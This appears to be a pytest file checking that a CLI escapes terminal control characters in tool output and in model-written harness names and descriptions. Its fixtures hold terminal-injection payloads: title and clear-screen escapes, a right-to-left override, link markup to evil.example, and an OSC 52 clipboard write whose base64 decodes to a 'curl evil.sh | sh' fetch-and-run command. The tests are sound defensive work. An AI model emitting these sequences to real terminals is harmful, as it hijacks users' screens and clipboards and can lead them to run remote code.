"""Red team, issue 27: text a task or a model wrote reaches a person's terminal with its control
characters shown, escaped, never acted on. `client solve` printed a step's text (tool output the task
controls) and `bank ls`/`bank show` a harness's name and description (the meta-model writes them) with
their control bytes: title, clipboard (OSC 52) and clear-screen sequences reached the terminal."""

from __future__ import annotations

import types

import pytest

import harness_bank.views
import jitagent.protocol.client
from harness_bank.records import HarnessRecord
from jitagent.cli import bank as bank_cli
from jitagent.cli.main import main
from jitagent.cli.terminal import visible
from jitagent.v1 import jitagent_pb2 as pb

TITLE = "\x1b]0;owned\x07"
CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"
CLEAR = "\x1b[2J\x1b[H"
C1_CSI = "\x9b2J"
HOSTILE = f"name{TITLE}{CLIPBOARD}{CLEAR}{C1_CSI}\r\u202eevil"
RAW = ("\x1b", "\x07", "\x9b", "\r", "\u202e")


def shown_safely(out: str) -> bool:
    """Nothing raw reaches the terminal, and the hostile bytes are there to see, escaped."""
    return not any(c in out for c in RAW) and "\\x1b]52;c;" in out and "\\u202e" in out


def test_visible_escapes_every_control_character_but_newline_and_tab():
    assert visible("a\x1b[2Jb\x07\x00\x7f\x85\x9b\u2066") == r"a\x1b[2Jb\x07\x00\x7f\x85\x9b\u2066"
    assert visible("line one\n\tline two — ünïcode") == "line one\n\tline two — ünïcode"


class FakeClient:
    """The gRPC client, answering `solve` with a step whose text the task's tool output wrote."""

    def __init__(self, *args, **kwargs):
        pass

    async def __aenter__(self):
        return self

    async def __aexit__(self, *exc):
        return False

    async def solve(self, task, n=0, timeout=None):
        yield pb.SolveEvent(run_id="r", step=pb.Step(kind=pb.STEP_KIND_TOOL, tool="python", text=HOSTILE))
        yield pb.SolveEvent(run_id="r", chosen=pb.Chosen(name=HOSTILE, harness_id="h"))


def test_client_solve_shows_step_text_escaped(monkeypatch, capsys):
    monkeypatch.setattr(jitagent.protocol.client, "JitAgentClient", FakeClient)
    assert main(["client", "solve", "Say hi.", "--address", "127.0.0.1:1"]) == 0
    events = capsys.readouterr().err  # the events go to stderr, as the run goes
    assert shown_safely(events) and events.count("\n") == 2, repr(events)


def harness() -> HarnessRecord:
    """A harness the meta-model named and described: control bytes, and markup that would be a link."""
    return HarnessRecord(id="h1", name=f"[link=https://evil.example]click[/link]{HOSTILE}",
                         description=HOSTILE, parent_id=None, origin="synthesized", generator=HOSTILE,
                         created_at=0.0, spec={"name": "x", "description": HOSTILE,
                                               "code": {"stage": "answer", "source": f"# {HOSTILE}\n"}})


@pytest.fixture
def hostile_bank(monkeypatch, tmp_path):
    h = harness()
    bank = types.SimpleNamespace(list_harnesses=lambda origin=None: [h])
    view = types.SimpleNamespace(harness=h, lineage=[h], evidence=[
        {"cluster": HOSTILE, "runs": 1, "mean_reward": 1.0, "mean_tokens": 3.0, "incumbent": True}],
        acceptance=[{"cluster": HOSTILE, "stage": "answer", "reason": HOSTILE, "heldout": 1,
                     "parent_heldout": 0}])
    monkeypatch.setattr(bank_cli, "_open", lambda args: bank)
    views = types.SimpleNamespace(harness=lambda _: view)
    monkeypatch.setattr(harness_bank.views, "BankViews", lambda bank: views)
    return tmp_path


@pytest.mark.parametrize("command", [["ls"], ["show", "h1"]])
def test_bank_ls_and_show_print_names_and_descriptions_escaped(hostile_bank, capsys, command):
    assert main(["bank", *command, "--data-dir", str(hostile_bank)]) == 0
    out = capsys.readouterr().out
    assert shown_safely(out), repr(out)
    assert "[link=https://evil.example]" in out and "\x1b]8;" not in out  # markup shown, never a link
